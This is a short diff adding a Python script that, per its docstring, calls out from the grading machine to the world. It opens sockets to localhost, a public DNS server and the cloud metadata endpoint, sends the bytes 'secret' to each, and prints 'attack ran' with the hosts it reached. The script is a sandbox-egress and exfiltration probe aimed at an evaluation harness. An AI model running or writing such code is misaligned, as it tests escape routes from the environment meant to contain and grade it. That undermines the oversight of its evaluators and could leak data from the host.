@@ -1,0 +1,13 @@
+"""Call a listener on the machine that grades, and the world."""
+
+import socket
+
+reached = []
+for place in (("127.0.0.1", PORT), ("localhost", PORT), ("8.8.8.8", 53), ("169.254.169.254", 80)):
+    try:
+        with socket.create_connection(place, timeout=2) as connection:
+            connection.sendall(b"secret")
+        reached.append(place)
+    except OSError:
+        pass
+print("attack ran", reached)
